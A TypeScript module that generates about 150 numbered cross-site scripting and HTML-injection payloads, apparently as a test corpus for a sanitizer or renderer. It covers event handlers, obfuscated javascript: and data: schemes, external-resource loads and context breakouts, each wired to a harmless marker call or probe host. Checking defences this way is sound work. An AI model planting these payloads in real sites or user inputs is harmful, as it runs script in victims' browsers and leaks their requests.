/** Elements that run what follows the sign of equality, of themselves or at a touch. */
const handlers = [
  ...['image src=x onerror', 'video src=x onerror', 'IMG SRC=x OnErRoR', 'img/src=x/onerror', 'script src=x onerror'],
  ...[
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'keygen autofocus onfocus',
    'a href=x autofocus onfocusin',
  ],
  ...[
    'body onpageshow',
    'frameset onload',
    'iframe onload',
    'style onload',
    'object data=x onerror',
    'embed src=x onload',
  ],
  ...['link rel=stylesheet href=x onerror', 'svg><animate attributeName=x dur=1s onbegin', 'svg><set dur=1s onend'],
  ...['svg><a xlink:href=x onclick', 'math href=x onclick', 'video autoplay onplay', 'audio autoplay oncanplay'],
  ...['div onpointerenter', 'div style="animation:x 1s" onanimationstart', 'button popovertarget=x onbeforetoggle'],
  ...['form oninput', 'track onload', 'p onwheel', 'x contenteditable autofocus onfocus', 'bdi onpointermove'],
];

/** Ways to write an address that no link may lead to. */
const schemes = [
  ...['javascript:', 'JAVASCRIPT:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', 'javascript&#x3A;'],
  ...[
    '&#106;avascript:',
    '&#x6a;&#x61;vascript:',
    'javascript://%0a',
    'javascript:/*https://*/',
    'ｊａｖａｓｃｒｉｐｔ:',
  ],
  ...[
    'vbscript:',
    'data:text/html,',
    'data:image/svg+xml,',
    'DATA:text/html;base64,',
    'blob:',
    'filesystem:',
    'file:///',
  ],
  ...['view-source:javascript:', 'feed:javascript:', 'intent:', 'jar:', 'ms-word:ofe|u|', 'about:blank#'],
];

/** What would fetch something from elsewhere as soon as it is shown. */
const fetching = (foreign: string): string[] => [
  `![a][r]\n\n[r]: ${foreign}/ref.png`,
  `[![a](${foreign}/in.png)](${foreign}/out)`,
  `<img srcset="${foreign}/set.png 1x">`,
  `<picture><source srcset="${foreign}/pic.png"><img></picture>`,
  `<video poster="${foreign}/poster.png"></video>`,
  `<input type=image src="${foreign}/input.png">`,
  `<table background="${foreign}/table.png"><tr><td>x</table>`,
  `<svg><image href="${foreign}/svg.png" /></svg>`,
  `<svg><use href="${foreign}/use.svg#a" /></svg>`,
  `<svg><filter><feImage href="${foreign}/fe.png" /></filter></svg>`,
  `<link rel=preload as=image href="${foreign}/pre.png">`,
  `<link rel=prefetch href="${foreign}/fetch">`,
  `<link rel=icon href="${foreign}/icon.png">`,
  `<div style="background-image:url(${foreign}/bg.png)">x</div>`,
  `<style>*{background:url(${foreign}/all.png)}</style>`,
  `<object><param name=src value="${foreign}/param"></object>`,
  `<frame src="${foreign}/frame">`,
  `<script type=module>import "${foreign}/m.js"</script>`,
  `<track src="${foreign}/t.vtt" default>`,
  `<blockquote cite="${foreign}/cite">x</blockquote><img src="${foreign}/after.png">`,
];

/** What would break out of the place where it is put. */
const outbreaks = (hit: string): string[] => [
  `]]><script>${hit}</script>`,
  `--!><script>${hit}</script>`,
  `</script><script>${hit}</script>`,
  `'"></option></select><img src=x onerror=${hit}>`,
  `</template></noscript></xmp></plaintext><img src=x onerror=${hit}>`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${hit}>">`,
  `<svg></p><style><a title="</style><img src=x onerror=${hit}>">`,
  `<<script>${hit};//<</script>`,
  `<img """><script>${hit}</script>">`,
  `#{${hit}}<%= ${hit} %>[[${hit}]]`,
  `$t(x) {{x}} {{{${hit}}}}`,
  `*/${hit}/*</style><b data-hit>`,
];

/**
 * A hundred and fifty texts that would run, load or break something if any page took them for more than text. Each calls `parleyHit`, puts a
 * `data-hit` element into the page or asks `foreign` for something. Each ends with a number of its own.
 */
export function payloads(foreign: string): string[] {
  const hit = 'parleyHit()';
  const plain = [
    `<script>${hit}</script>`,
    `"><script src="${foreign}/a.js"></script>`,
    `<img src=x onerror=${hit}>`,
    `<img src="${foreign}/pixel.png" data-hit>`,
    `<svg onload=${hit}><rect data-hit /></svg>`,
    `<svg><script>${hit}</script></svg>`,
    `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<iframe src="javascript:${hit}"></iframe>`,
    `<a href="javascript:${hit}" data-hit>press</a>`,
    `[press](javascript:${hit})`,
    `[press](JaVaScRiPt&#58;${hit})`,
    `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `![picture](${foreign}/md.png)`,
    `<body onload=${hit}>`,
    `<details open ontoggle=${hit} data-hit>`,
    `<input autofocus onfocus=${hit}>`,
    `<video><source onerror=${hit}></video>`,
    `<audio src=x onerror=${hit}>`,
    `<math><mtext><img src=x onerror=${hit}></mtext></math>`,
    `</textarea><script>${hit}</script>`,
    `</title></style></script><script>${hit}</script>`,
    `<style>@import "${foreign}/a.css";</style>`,
    `<link rel=stylesheet href="${foreign}/b.css">`,
    `<base href="${foreign}/">`,
    `<meta http-equiv=refresh content="0;url=${foreign}/gone">`,
    `<form action="${foreign}/form"><button data-hit>send</button></form>`,
    `<object data="${foreign}/o"></object>`,
    `<embed src="${foreign}/e">`,
    `<template><img src=x onerror=${hit}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
    `<!--<img src="--><img src=x onerror=${hit}>`,
    `&lt;script&gt;${hit}&lt;/script&gt;`,
    `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
    `\${${hit}}`,
    `{{constructor.constructor('${hit}')()}}`,
    `'-${hit}-'`,
    `";${hit};//`,
    `\`+${hit}+\``,
    `<x-hit data-hit style="background:url(${foreign}/bg)">`,
    `<marquee onstart=${hit} data-hit>`,
  ];
  return [
    ...plain,
    ...handlers.map((handler) => `<${handler}=${hit}>`),
    ...schemes.flatMap((scheme) => [`[press](${scheme}${hit})`, `<a href="${scheme}${hit}" data-hit>press</a>`]),
    ...fetching(foreign),
    ...outbreaks(hit),
  ].map((text, i) => `${text} no${i + 1}.`);
}
